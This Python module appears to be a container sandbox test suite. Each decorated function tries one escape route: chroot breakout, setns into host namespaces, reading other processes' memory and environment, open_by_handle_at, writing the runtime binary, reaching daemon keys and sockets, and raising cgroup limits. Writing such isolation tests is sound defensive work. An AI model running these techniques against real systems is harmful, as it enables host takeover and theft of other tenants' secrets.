"""Ways out of a container: to the node, to other sessions, to the daemon.

Each function is a row of the table; its text is what it tries.
"""
import contextlib
import ctypes
import errno
import fcntl
import os
import signal
import socket
import stat
import struct
import time

from kernel import Impossible, LIBC, Refused, attack, call, mount, refuse_unless, text

NEWUSER, NEWNET = 0x10000000, 0x40000000
HANDLE_BYTES = 128


# --- Namespaces


@attack("Processes of the node")
def command_line_of_another(at):
    """reads the command line of a process of the node"""
    return at.found(text(f"/proc/{at.decoy['pid']}/cmdline"))


@attack("Processes of the node")
def environment_of_another(at):
    """reads the environment of a process of the node"""
    return at.found(text(f"/proc/{at.decoy['pid']}/environ"))


@attack("Processes of the node")
def signal_another(at):
    """sends a signal to a process of the node"""
    os.kill(at.decoy["pid"], signal.SIGCONT)


@attack("Processes of the node")
def trace_another(at):
    """traces a process of the node (ptrace)"""
    attach, detach = 16, 17
    call(101, attach, at.decoy["pid"], 0, 0)
    os.waitpid(at.decoy["pid"], 0)
    call(101, detach, at.decoy["pid"], 0, 0)


def memory_of(pid):
    """The memory of a process where its environment lies."""
    fields = text(f"/proc/{pid}/stat").rpartition(")")[2].split()
    start, end = int(fields[47]), int(fields[48])
    with open(f"/proc/{pid}/mem", "rb") as memory:
        memory.seek(start)
        return memory.read(end - start)


@attack("Processes of the node")
def memory_of_another(at):
    """reads the memory of a process of the node (/proc/PID/mem)"""
    return at.found(memory_of(at.decoy["pid"]))


@attack("Processes of the node")
def root_of_another(at):
    """goes through /proc/PID/root of a process of the node to its files"""
    return at.found(text(f"/proc/{at.decoy['pid']}/root{at.places['secret']}"))


def break_out():
    os.makedirs("/tmp/inner", exist_ok=True)
    os.chroot("/tmp/inner")
    for _ in range(64):
        os.chdir("..")
    os.chroot(".")


@attack("Files of the node")
def break_out_of_the_root(at):
    """leaves its root by a second chroot and `..`"""
    break_out()
    return at.found(text(at.places["secret"]))


@attack("Files of the node")
def enter_the_mounts(at):
    """enters the mounts of the node (setns)"""
    for pid in (at.decoy["pid"], at.guest):
        try:
            opened = os.open(f"/proc/{pid}/ns/mnt", os.O_RDONLY)
            break
        except OSError as error:
            last = error
    else:
        raise last
    call(308, opened, 0)
    return at.found(text(at.places["secret"]))


@attack("Files of the node")
def mount_spreads(at):
    """mounts something that is then mounted on the node too (propagation)"""
    place = at.places.get("shared", "/tmp")
    mount(b"none", place.encode(), b"tmpfs")
    open(f"{place}/seen", "w").close()
    around = os.environ.get("AROUND", "1")
    os.stat(f"/proc/{around}/root{at.places['shared_outside']}/seen")


@attack("Files of the node")
def mount_the_disk(at):
    """mounts the node's disk"""
    if not at.decoy["disk"].startswith("/dev/"):
        raise Impossible("the node's root lies on no disk")
    os.makedirs("/tmp/disk", exist_ok=True)
    mount(at.decoy["disk"].encode(), b"/tmp/disk", at.decoy["disk_kind"].encode())
    return at.found(text("/tmp/disk" + at.places["secret"]))


@attack("Files of the node")
def make_a_disk_device(at):
    """makes a device node of the node's disk and reads it"""
    number = at.decoy["disk_number"]
    if at.control and not at.decoy["reads_disk"]:
        raise Impossible("here not even the node's root may read its disk")
    os.mknod("/tmp/a-disk", stat.S_IFBLK | 0o600, os.makedev(*number))
    with open("/tmp/a-disk", "rb", buffering=0) as disk:
        refuse_unless(len(disk.read(4096)) == 4096, "it is empty")


@attack("Files of the node")
def open_by_handle(at):
    """opens files of the node by a guessed handle (open_by_handle_at)"""
    where = os.open("/usr", os.O_RDONLY | os.O_DIRECTORY)
    # The root of an ext file system: inode 2.
    handle = struct.pack("IiII", 8, 1, 2, 0).ljust(HANDLE_BYTES, b"\0")
    if at.control:
        probe = ctypes.create_string_buffer(struct.pack("Ii", 64, 0).ljust(HANDLE_BYTES, b"\0"))
        number = ctypes.c_int()
        call(303, where, b"", probe, ctypes.byref(number), 0x1000)
        if struct.unpack("Ii", probe.raw[:8])[1] != 1:
            raise Impossible("the node's files lie on no ext file system")
    root = call(304, where, handle, os.O_RDONLY | os.O_DIRECTORY)
    return f"lists {len(os.listdir(root))} names in the node's root"


@attack("Files of the node")
def leaked_descriptor(at):
    """reaches the node through a descriptor that was left open at its start"""
    left = [int(name) for name in os.listdir("/proc/self/fd") if int(name) > 2]
    for number in left:
        try:
            os.fchdir(number)
            return at.found(text("." + at.places["secret"]))
        except (OSError, Refused):
            pass
    raise Refused("none was left open")


@attack("Files of the node")
def overwrite_the_runtime(at):
    """overwrites the program that started it (/proc/PID/exe)"""
    pid = at.guest
    if at.control:
        # The runtime of a plain container: it lies where the node has it, and runs.
        running = os.fork()
        if running == 0:
            os.execv(at.places["runtime"], ["runtime", "1"])
        while not os.readlink(f"/proc/{running}/exe").endswith("runtime"):
            time.sleep(0.01)
        pid = running
    opened = os.open(f"/proc/{pid}/exe", os.O_PATH)
    if at.control:
        os.waitpid(pid, 0)
    os.close(os.open(f"/proc/self/fd/{opened}", os.O_WRONLY))
    return "opens it for writing"


# --- What lies on the node for others

PLACES = "Other sessions and the daemon"


def reads(at, name):
    return at.found(text(at.on_node(at.places[name]), "rb"))


def connects(at, name):
    with socket.socket(socket.AF_UNIX) as one:
        one.connect(at.on_node(at.places[name]))
    return "is connected"


@attack(PLACES)
def files_of_another_session(at):
    """reads a file in another session's /work"""
    return reads(at, "work")


@attack(PLACES)
def log_of_another_session(at):
    """reads another session's log"""
    return reads(at, "log")


@attack(PLACES)
def forge_a_record(at):
    """writes into a session's record, in the node's directory"""
    place = at.on_node(at.places["record"])
    with open(f"{place}/forged", "w"):
        pass
    os.unlink(f"{place}/forged")


@attack(PLACES)
def guest_of_another_session(at):
    """connects to another session's guest"""
    return connects(at, "guest_socket")


@attack(PLACES)
def daemons_socket(at):
    """connects to the daemon's socket"""
    return connects(at, "daemon_socket")


@attack(PLACES)
def daemons_key(at):
    """reads the key of the daemon's API"""
    refuse_unless(text(at.on_node(at.places["key"])), "it is empty")
    return "reads the key"


@attack(PLACES)
def daemons_store(at):
    """reads the daemon's store"""
    refuse_unless(text(at.on_node(at.places["store"]), "rb"), "it is empty")
    return "reads it"


@attack(PLACES)
def daemons_api(at):
    """reaches the daemon's API on the node's loopback"""
    with socket.create_connection(("127.0.0.1", at.places["api_port"]), 5):
        return "is connected"


# --- Network


@attack("Network")
def loopback(at):
    """connects to a service on the node's loopback"""
    with socket.create_connection(("127.0.0.1", at.decoy["port"]), 5) as one:
        return at.found(one.recv(100))


@attack("Network")
def abstract_socket(at):
    """connects to an abstract Unix socket of the node"""
    with socket.socket(socket.AF_UNIX) as one:
        one.connect("\0" + at.decoy["abstract"])
        return at.found(one.recv(100))


@attack("Network")
def enter_the_network(at):
    """enters the node's network (setns)"""
    call(308, os.open(f"/proc/{at.decoy['pid']}/ns/net", os.O_RDONLY), NEWNET)


@attack("Network")
def listen_to_packets(at):
    """listens to all packets (AF_PACKET)"""
    socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3)).close()


@attack("Network")
def raw_socket(at):
    """sends packets as it likes (SOCK_RAW)"""
    socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP).close()


@attack("Network")
def change_a_device(at):
    """changes a network device"""
    get, put = 0x8913, 0x8914
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
        flags = fcntl.ioctl(one, get, struct.pack("16sh22x", b"lo", 0))
        fcntl.ioctl(one, put, flags)


@attack("Network")
def events_of_the_kernel(at):
    """listens to the kernel's events (NETLINK_KOBJECT_UEVENT)"""
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 15) as one:
        one.bind((0, 1))


@attack("Network")
def other_families(at):
    """uses a family of sockets that containers have no need of (AF_ALG, AF_KEY, AF_TIPC, AF_XDP)"""
    kinds = ((38, socket.SOCK_SEQPACKET, 0), (15, socket.SOCK_RAW, 2), (30, socket.SOCK_DGRAM, 0))
    last = None
    for family, kind, protocol in kinds + ((44, socket.SOCK_RAW, 0),):
        try:
            socket.socket(family, kind, protocol).close()
            return f"has one of family {family}"
        except OSError as error:
            last = error
    if at.control and last.errno == errno.EAFNOSUPPORT:
        raise Impossible("this kernel has none of them") from None
    raise last


# --- Interprocess communication, names, control groups


@attack("Namespaces")
def shared_memory(at):
    """reads the node's System V shared memory"""
    number = call(29, at.decoy["memory"], 0, 0)
    LIBC.shmat.restype = ctypes.c_void_p
    place = LIBC.shmat(number, None, 0o10000)
    return at.found(ctypes.string_at(place, len(at.secret)))


@attack("Namespaces")
def message_queue(at):
    """takes from the node's System V message queue"""
    number = call(68, at.decoy["memory"], 0)
    buffer = ctypes.create_string_buffer(8 + 256)
    copy, nowait = 0o40000, 0o4000
    call(70, number, buffer, 256, 0, copy | nowait)
    return at.found(buffer.raw)


@attack("Namespaces")
def posix_queue(at):
    """opens the node's POSIX message queue"""
    call(240, at.decoy["queue"].encode(), os.O_RDONLY, 0, None)


@attack("Namespaces")
def host_name(at):
    """sets the host name"""
    name = os.uname().nodename.encode()
    call(170, name, len(name))


@attack("Namespaces")
def new_user_namespace(at):
    """becomes root of a new user namespace (unshare, clone, clone3)"""
    if at.control:
        # The kernel makes none for who has not the root of its mounts.
        break_out()
    try:
        call(272, NEWUSER)
    except OSError:
        arguments = struct.pack("8Q", NEWUSER, 0, 0, 0, signal.SIGCHLD, 0, 0, 0)
        child = call(435, arguments, len(arguments))
        if child == 0:
            os._exit(0)
        os.waitpid(child, 0)


@attack("Namespaces")
def map_further_ids(at):
    """maps all ids of the node into its user namespace (uid_map)"""
    inside = os.getpid()
    if at.control:
        reading, writing = os.pipe()
        inside = os.fork()
        if inside == 0:
            break_out()
            call(272, NEWUSER)
            os.write(writing, b"1")
            signal.pause()
        os.read(reading, 1)
    with open(f"/proc/{inside}/uid_map", "w") as file:
        file.write("0 0 4294967295\n")


def own_groups():
    for line in text("/proc/self/cgroup").splitlines():
        _, controllers, path = line.split(":", 2)
        yield controllers, path


@contextlib.contextmanager
def in_a_group(at):
    """In a group of its own, where the one that a plain container is in is the node's root."""
    place = f"/sys/fs/cgroup/attacked-{os.getpid()}"
    if not at.may_change_the_machine:
        yield
        return
    os.mkdir(place)
    try:
        write(f"{place}/cgroup.procs", "0")
        yield
    finally:
        write("/sys/fs/cgroup/cgroup.procs", "0")
        os.rmdir(place)


def write(path, content):
    with open(path, "w") as file:
        file.write(content)


def group_roots():
    for line in text("/proc/self/mountinfo").splitlines():
        before, _, after = line.partition(" - ")
        if after.split()[0] in ("cgroup", "cgroup2"):
            yield before.split()[4]


@attack("Control groups")
def groups_above(at):
    """sees where its control groups lie on the node"""
    with in_a_group(at):
        above = [path for _, path in own_groups() if path.strip("/")]
    refuse_unless(above, "it is the root of each, to itself")
    return f"sees {above[0]}"


@attack("Control groups")
def raise_a_limit(at):
    """raises its own limits (cgroup.procs, tasks, *.max of a group)"""
    for root in group_roots():
        for _, path in own_groups():
            for name in ("cgroup.procs", "tasks", "pids.max", "memory.limit_in_bytes"):
                try:
                    os.close(os.open(f"{root}{path}/{name}", os.O_WRONLY))
                    return "opens a group for writing"
                except OSError:
                    pass
    raise Refused("no control group is mounted")


@attack("Control groups")
def make_groups(at):
    """makes control groups without end"""
    for root in group_roots():
        place = f"{root}/attacked-{os.getpid()}"
        try:
            os.mkdir(place)
        except OSError:
            continue
        os.rmdir(place)
        return "makes one"
    raise Refused("no control group is mounted")
